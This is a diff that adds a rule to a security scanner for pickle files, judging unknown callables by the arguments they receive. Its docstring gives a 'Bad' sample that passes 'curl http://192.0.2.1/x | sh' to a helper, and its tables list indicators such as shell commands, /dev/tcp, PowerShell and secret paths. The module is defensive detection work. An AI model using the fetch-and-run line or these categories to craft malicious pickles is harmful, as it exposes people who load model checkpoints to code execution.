@@ -1,0 +1,83 @@
+"""A callable that nobody vouches for is called with arguments that tell what it is for.
+
+Names are three-valued: known to be harmless, known to act, unknown. An unknown callable is judged by
+what it is handed. A shell command, Python source that acts, another pickle or a dangerous function is
+an error; a URL, a host and port, a path to a secret or packed data asks for review; anything else is
+noted, because constructors of unknown classes are what checkpoints are made of.
+
+Bad:
+
+    language pickle
+    unit offset
+    entry main load
+    def main():
+      %0 = name somepackage.helpers.execute
+      %1 = const 'curl http://192.0.2.1/x | sh'
+      %2 = call %0, %1
+
+Good:
+
+    language pickle
+    unit offset
+    entry main load
+    def main():
+      %0 = name collections.OrderedDict
+      %1 = call %0
+"""
+
+from collections.abc import Iterator
+
+from scanner.facts import Effect, Facts
+from scanner.finding import Behaviour, Finding, Precision, Rule, Severity
+from scanner.rules._report import finding
+
+RULE = Rule(
+    id="unknown-callable",
+    title="An unknown callable is handed something telling",
+    severity=Severity.ERROR,
+    precision=Precision.MEDIUM,
+    security_severity=8.0,
+    cwe=(502, 829),
+    attack=("T1059.006",),
+    atlas=("AML.T0011.000",),
+    specificity=5,
+)
+
+DAMNING = {
+    "shell-command": "a command line",
+    "python-code": "Python source",
+    "pickle-bytes": "another pickle",
+    "callable": "a callable that acts",
+    "dev-tcp": "a connection in a shell script",
+    "powershell": "a PowerShell script",
+}
+TELLING = {
+    "url": "a URL",
+    "url-raw-ip": "a URL with a raw address",
+    "out-of-band-host": "an out-of-band host",
+    "host-port": "a host and port",
+    "onion": "an onion address",
+    "secret-path": "a path to secrets",
+    "startup-path": "a start-up file",
+    "base64-blob": "encoded code",
+    "packed-bytes": "packed data",
+    "python-dunder-walk": "a walk through Python's internals",
+}
+
+
+def check(facts: Facts) -> Iterator[Finding]:
+    """One finding for each unknown call of data, by the worst of its arguments."""
+    for effect in facts.running("call.unknown"):
+        if effect.script or effect.callee.startswith("shell."):
+            continue
+        severity, what = _judge(effect)
+        deed = f"calls {effect.callee}, about which nothing is known{what}"
+        yield finding(RULE, effect, deed, Behaviour.CODE_EXECUTION, severity=severity)
+
+
+def _judge(effect: Effect) -> tuple[Severity, str]:
+    for table, severity in ((DAMNING, Severity.ERROR), (TELLING, Severity.WARNING)):
+        for kind, words in table.items():
+            if kind in effect.indicators:
+                return severity, f", with {words}"
+    return Severity.NOTE, ""
